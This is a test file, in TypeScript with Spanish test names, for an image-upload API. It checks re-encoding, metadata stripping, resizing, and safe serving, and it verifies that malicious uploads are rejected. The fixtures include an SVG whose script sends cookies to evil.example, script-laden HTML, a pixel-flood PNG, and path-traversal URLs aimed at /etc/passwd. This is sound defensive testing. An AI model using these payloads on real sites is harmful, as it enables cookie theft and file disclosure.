import type { ErrorAnswer } from '@shop/contract';
import { readdir, rm } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { databaseTargets } from './support/databases';
import { fileUpload, jpegWithExif, multipart, pixelFloodPng, png } from './support/files';
import { type Reply, useTestApp } from './support/test-app';

interface Uploaded {
  url: string;
  width: number;
  height: number;
  mime_type: string;
}

const STORED_URL = /^\/uploads\/([0-9a-f]{32})\.webp$/;
const NOT_AN_IMAGE = { error: 'El archivo no es una imagen válida (JPEG, PNG, WebP o GIF).' };

const SVG_WITH_SCRIPT = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="64" height="64" fill="red"/>
</svg>`;
const HTML_PAGE = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';

function canvas(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: '#16a34a' } });
}

describe.each(databaseTargets)('POST /api/upload ($name)', (target) => {
  const t = useTestApp(target);
  beforeEach(() => t.reset());

  const send = (value: Buffer | string, filename: string, contentType: string) => {
    const { body, contentType: header } = fileUpload(value, filename, contentType);
    return t.call('POST', '/api/upload', { body, token: t.adminToken, headers: { 'content-type': header } });
  };
  const uploaded = (reply: Reply) => {
    expect({ status: reply.statusCode, body: reply.statusCode === 201 ? 'ok' : reply.body }).toEqual({
      status: 201,
      body: 'ok',
    });
    return reply.json<Uploaded>();
  };
  /** The stored file as the site would fetch it. */
  const served = async (url: string) => {
    const reply = await t.get(url);
    expect(reply.statusCode).toBe(200);
    return { reply, image: reply.rawPayload, metadata: await sharp(reply.rawPayload).metadata() };
  };

  it.each([
    ['JPEG', () => canvas(90, 60).jpeg().toBuffer()],
    ['PNG', () => canvas(90, 60).png().toBuffer()],
    ['WebP', () => canvas(90, 60).webp().toBuffer()],
    ['GIF', () => canvas(90, 60).gif().toBuffer()],
  ])('acepta un %s real, aunque venga con otro nombre y tipo, y lo guarda re-codificado', async (_format, make) => {
    // Recognised by content: the name and the declared type say nothing true here.
    const answer = uploaded(await send(await make(), 'archivo.bin', 'application/octet-stream'));
    expect(answer).toEqual({ url: expect.stringMatching(STORED_URL), width: 90, height: 60, mime_type: 'image/webp' });
    const { metadata } = await served(answer.url);
    expect(metadata).toMatchObject({ format: 'webp', width: 90, height: 60 });
  });

  it('guarda cada subida con un nombre al azar, nunca el del archivo', async () => {
    const image = await png();
    const first = uploaded(await send(image, 'mi-bici.png', 'image/png'));
    const second = uploaded(await send(image, 'mi-bici.png', 'image/png'));
    expect(first.url).not.toBe(second.url);
    expect(`${first.url}${second.url}`).not.toContain('mi-bici');
  });

  it('quita los metadatos EXIF y lo que viaja escondido detrás de la imagen', async () => {
    const hidden = Buffer.from('<script>alert("escondido")</script>');
    const answer = uploaded(await send(Buffer.concat([await jpegWithExif(), hidden]), 'foto.jpg', 'image/jpeg'));
    const { image, metadata } = await served(answer.url);
    expect(metadata.exif).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(image.includes('Camara Privada')).toBe(false);
    expect(image.includes('Secreto del fotografo')).toBe(false);
    expect(image.includes('<script>')).toBe(false);
  });

  it('escribe <nombre>-320w, -640w y -1024w.webp para srcset, sólo los más angostos que la imagen', async () => {
    const wide = uploaded(await send(await canvas(1200, 900).png().toBuffer(), 'ancha.png', 'image/png'));
    const [, name] = STORED_URL.exec(wide.url) ?? [];
    for (const width of [320, 640, 1024]) {
      const { reply, metadata } = await served(`/uploads/${name}-${width}w.webp`);
      expect(reply.headers['content-type']).toBe('image/webp');
      expect(metadata).toMatchObject({ format: 'webp', width, height: Math.round((width * 900) / 1200) });
    }

    const narrow = uploaded(await send(await canvas(500, 250).png().toBuffer(), 'angosta.png', 'image/png'));
    const [, narrowName] = STORED_URL.exec(narrow.url) ?? [];
    const files = (await readdir(t.uploadsDir)).filter((file) => file.startsWith(narrowName ?? '-')).sort();
    expect(files).toEqual([`${narrowName}-320w.webp`, `${narrowName}-share.jpg`, `${narrowName}.webp`]);
  });

  it('escribe además <nombre>-share.jpg para las vistas previas al compartir, servido como JPEG', async () => {
    const wide = uploaded(await send(await canvas(2400, 1200).png().toBuffer(), 'ancha.png', 'image/png'));
    const [, name] = STORED_URL.exec(wide.url) ?? [];
    const stored = await served(`/uploads/${name}-share.jpg`);
    expect(stored.reply.headers['content-type']).toBe('image/jpeg');
    expect(stored.metadata).toMatchObject({ format: 'jpeg', width: 1200, height: 600 });
    const shared = await served(`/api/compartir/${name}.jpg`);
    expect(shared.reply.headers['content-type']).toBe('image/jpeg');
    expect(shared.reply.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(shared.image.equals(stored.image)).toBe(true);
  });

  it('hace el JPEG para compartir de una imagen guardada antes, la primera vez que se lo pide', async () => {
    const answer = uploaded(await send(await canvas(300, 200).png().toBuffer(), 'vieja.png', 'image/png'));
    const [, name] = STORED_URL.exec(answer.url) ?? [];
    await rm(path.join(t.uploadsDir, `${name}-share.jpg`));

    const { reply, metadata } = await served(`/api/compartir/${name}.jpg`);
    expect(reply.headers['content-type']).toBe('image/jpeg');
    expect(metadata).toMatchObject({ format: 'jpeg', width: 300, height: 200 });
    expect(await readdir(t.uploadsDir)).toContain(`${name}-share.jpg`);
  });

  it('contesta 404 en JSON al pedir el JPEG para compartir de algo que no es una imagen guardada', async () => {
    for (const file of [`${'a'.repeat(32)}.jpg`, 'foto.jpg', '..%2Fpackage.json']) {
      const reply = await t.get(`/api/compartir/${file}`);
      expect({ file, status: reply.statusCode, body: reply.json() }).toEqual({
        file,
        status: 404,
        body: { error: 'Imagen no encontrada' },
      });
    }
  });

  it('achica a 1600 px de ancho una imagen más grande, sin deformarla', async () => {
    const answer = uploaded(await send(await canvas(2400, 1200).jpeg().toBuffer(), 'enorme.jpg', 'image/jpeg'));
    expect(answer).toMatchObject({ width: 1600, height: 800 });
    expect((await served(answer.url)).metadata).toMatchObject({ width: 1600, height: 800 });
  });

  it('sirve los archivos con su tipo real, nosniff y caché larga e inmutable', async () => {
    const answer = uploaded(await send(await png(), 'foto.png', 'image/png'));
    const { reply } = await served(answer.url);
    expect(reply.headers['content-type']).toBe('image/webp');
    expect(reply.headers['x-content-type-options']).toBe('nosniff');
    expect(reply.headers['cache-control']).toMatch(/public, max-age=31536000, immutable/);
  });

  it('un archivo que no existe o una ruta que sale de la carpeta de subidas contesta 404', async () => {
    for (const url of ['/uploads/no-existe.webp', '/uploads/../package.json', '/uploads/%2e%2e/%2e%2e/etc/passwd']) {
      const reply = await t.get(url);
      expect({ url, status: reply.statusCode }).toEqual({ url, status: 404 });
    }
  });

  describe('rechazos: 4xx con un error en español y nada guardado', () => {
    const refusals: [string, () => Promise<Reply>, number, ErrorAnswer][] = [
      ['un archivo de texto', () => send('hola, no soy una foto', 'nota.txt', 'text/plain'), 415, NOT_AN_IMAGE],
      ['un SVG con script', () => send(SVG_WITH_SCRIPT, 'logo.svg', 'image/svg+xml'), 415, NOT_AN_IMAGE],
      ['un HTML con nombre .jpg', () => send(HTML_PAGE, 'foto.jpg', 'image/jpeg'), 415, NOT_AN_IMAGE],
      [
        'un PNG cortado a la mitad',
        async () => {
          const image = await canvas(400, 300).png({ compressionLevel: 0 }).toBuffer();
          return send(image.subarray(0, image.length / 2), 'cortada.png', 'image/png');
        },
        415,
        NOT_AN_IMAGE,
      ],
      [
        'una bomba de píxeles (PNG chico que declara 100 000 × 100 000)',
        () => send(pixelFloodPng(), 'inocente.png', 'image/png'),
        413,
        { error: 'La imagen tiene demasiados píxeles (máximo 40 megapíxeles).' },
      ],
      [
        'un archivo de más de 8 MB',
        async () => send(Buffer.concat([await png(), Buffer.alloc(8 * 1024 * 1024)]), 'pesada.png', 'image/png'),
        413,
        { error: 'La imagen supera el tamaño máximo de 8 MB.' },
      ],
      [
        'un formulario sin el campo file',
        () => {
          const { body, contentType } = multipart([{ name: 'foto', value: 'x', filename: 'a.png' }]);
          return t.call('POST', '/api/upload', { body, token: t.adminToken, headers: { 'content-type': contentType } });
        },
        400,
        { error: 'Falta el archivo en el campo "file".', campo: 'file' },
      ],
      [
        'un cuerpo JSON en vez de multipart',
        () => t.post('/api/upload', { file: 'data:image/png;base64,AAAA' }, t.adminToken),
        415,
        { error: 'Enviá la imagen como multipart/form-data en el campo "file".' },
      ],
    ];

    it.each(refusals)('%s', async (_case, attempt, status, error) => {
      const reply = await attempt();
      expect({ status: reply.statusCode, body: reply.json<unknown>() }).toEqual({ status, body: error });
      expect(await readdir(t.uploadsDir)).toEqual([]);
    });
  });
});
